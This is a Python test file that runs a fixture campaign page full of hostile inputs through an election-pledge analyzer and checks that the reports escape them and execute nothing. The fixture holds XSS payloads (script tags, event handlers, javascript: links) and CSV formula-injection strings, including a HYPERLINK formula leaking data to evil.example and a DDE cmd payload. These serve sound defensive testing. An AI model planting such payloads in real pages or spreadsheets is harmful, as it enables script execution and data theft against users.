"""Hostile campaign text through the whole pipeline: a saved site full of markup, event
handlers, javascript: links and spreadsheet formulas goes through run_field, and the reports
must show it as text, link nothing unsafe, and run nothing. No network: the sources are local.
"""

from __future__ import annotations

import csv
import html.parser
import os
from pathlib import Path

import pytest

from analyzer.records import Candidate, Election, Field, GatherOptions, Source

HOSTILE_NAME = '<script>alert("name")</script> Mallory'

# Text a reader would see on the hostile site. Markup meant as text is entity-escaped in the
# source, so extraction yields literal "<script>…"; real tags and handlers are there too.
INDEX = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>&lt;/title&gt;&lt;script&gt;alert("title")&lt;/script&gt; Mallory for Mayor</title>
<script>alert("inline")</script>
</head>
<body onload="alert('body')">
<h1>My plan &lt;script&gt;alert("heading")&lt;/script&gt;</h1>
<h2>A City Hall that works <img src=x onerror="alert('h2')"></h2>
<ul>
<li>As mayor, I will appoint a Chief Innovation Officer &lt;img src=x onerror=alert(1)&gt; in my first 100 days.</li>
<li>I will publish every city contract over $25,000 online within one week &lt;/td&gt;&lt;script&gt;alert(2)&lt;/script&gt; of signing.</li>
<li>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click") I will cut permit wait times in half by 2016.</li>
<li>@SUM(1+1) I will launch a 311 app with response times for every neighborhood by 2015.</li>
<li>+cmd|' /C calc'!A0 I will create a $5 million innovation fund in my first budget.</li>
<li><a href="javascript:alert('link')">I will put every permit application online by the end of 2015.</a></li>
<li onmouseover="alert('li')">I will partner with local universities to evaluate every new city program by 2016.</li>
</ul>
<p><a href="javascript:alert(3)">Read the plan</a> <iframe src="javascript:alert(4)"></iframe></p>
</body></html>
"""


class _Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.scripts += tag == "script"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, models):
    from analyzer.pipeline import run_field

    root = tmp_path_factory.mktemp("hostile")
    site = root / "site"
    site.mkdir()
    (site / "index.html").write_text(INDEX, encoding="utf-8")
    empty = root / "empty"
    empty.mkdir()
    field = Field(
        election=Election(city="Hostile <b>City</b>", state="ZZ", office="Mayor", year=2013, fictional=True),
        candidates=(
            # The loader would refuse this URL; a field built in code must be safe all the same.
            Candidate(name=HOSTILE_NAME, slug="mallory",
                      sources=(Source(kind="local", url="javascript:alert('source')//", path=site),)),
            Candidate(name="Nobody Home", slug="nobody", sources=(Source(kind="local", path=empty),)),
            Candidate(name="Unlisted", slug="unlisted"),
        ),
        gather=GatherOptions(delay=0.0),
    )
    return run_field(field, root / "out", models=models)


def test_pipeline_reports_hostile_text_as_text(hostile_run):
    page = Path(hostile_run.files["scorecard"]).read_text(encoding="utf-8")
    parsed = _Tags()
    parsed.feed(page)
    assert parsed.scripts == 1  # the scorecard's own
    for tag, attrs in parsed.tags:
        assert tag not in ("img", "iframe", "object", "embed", "b"), tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "cite", "action"):
                assert value and value.startswith(("#", "http://", "https://")), (tag, name, value)
    assert "javascript:" not in " ".join(a.get("href", "") for _, a in parsed.tags)
    assert "&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt; Mallory" in page
    assert "Hostile &lt;b&gt;City&lt;/b&gt;" in page
    # The hostile pledges were found and are quoted, escaped.
    assert "Chief Innovation Officer &lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;/td&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in page
    # Statuses came through the pipeline too.
    assert "Not reachable" in page and "Not checked" in page


def test_pipeline_csv_is_guarded(hostile_run):
    with open(hostile_run.files["commitments"], encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows, "the hostile pledges should be found as commitments"
    for row in rows:
        for col, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (col, value)
    quotes = " ".join(r["quote"] for r in rows)
    assert "<img src=x onerror=alert(1)>" in quotes  # CSV keeps the text verbatim
    guarded = [r["quote"] for r in rows if r["quote"].startswith("'")]
    assert guarded, "the formula bullets should be kept, with a leading apostrophe"
    with open(hostile_run.files["candidates"], encoding="utf-8", newline="") as fh:
        cands = {r["slug"]: r for r in csv.DictReader(fh)}
    assert cands["mallory"]["name"] == HOSTILE_NAME
    assert cands["nobody"]["status"] == "not reachable" and cands["nobody"]["commitments"] == ""
    assert cands["unlisted"]["status"] == "not checked" and cands["unlisted"]["commitments"] == ""


def test_pipeline_scorecard_runs_nothing_in_a_browser(hostile_run):
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        sync_playwright = None
    chromium = os.environ.get("ANALYZER_CHROMIUM", "/usr/bin/chromium")
    if sync_playwright is None or not os.access(chromium, os.X_OK):
        reason = "needs the playwright package and Chromium at " + chromium
        if os.environ.get("ANALYZER_REQUIRE_BROWSER") == "1":
            pytest.fail(reason + " (ANALYZER_REQUIRE_BROWSER=1)")
        pytest.skip(reason)
    url = Path(hostile_run.files["scorecard"]).as_uri()
    dialogs, requests, errors = [], [], []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync"])
        try:
            pg = browser.new_page()
            pg.route("**/*", lambda r: r.continue_() if r.request.url.split("#")[0] == url
                     else (requests.append(r.request.url), r.abort()))
            pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            pg.on("pageerror", lambda exc: errors.append(str(exc)))
            pg.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            pg.goto(url)
            pg.wait_for_load_state("load")
            for text in pg.locator(".quote blockquote, .q-text").all()[:20]:
                text.hover()
            assert pg.evaluate("document.querySelectorAll('img, iframe').length") == 0
        finally:
            browser.close()
    assert dialogs == [] and requests == [] and errors == []


def test_control_characters_never_reach_a_reader():
    """A NUL or a right-to-left override in a page or a name is dropped when the text is read."""
    from analyzer.text import clean

    assert clean("Vote\x00 for \u202eEve\u202c today") == "Vote for Eve today"
    assert clean("tab\tand\nnewline") == "tab and newline"


def test_a_saved_file_named_like_a_url_scheme_stays_under_its_site(tmp_path):
    from analyzer.gather.local import page_url
    from analyzer.records import Source

    (tmp_path / "javascript:alert(8).html").write_text("<p>x</p>")
    url = page_url(tmp_path, tmp_path / "javascript:alert(8).html", Source(kind="local", url="https://site.example", path=tmp_path))
    assert url.startswith("https://site.example/")
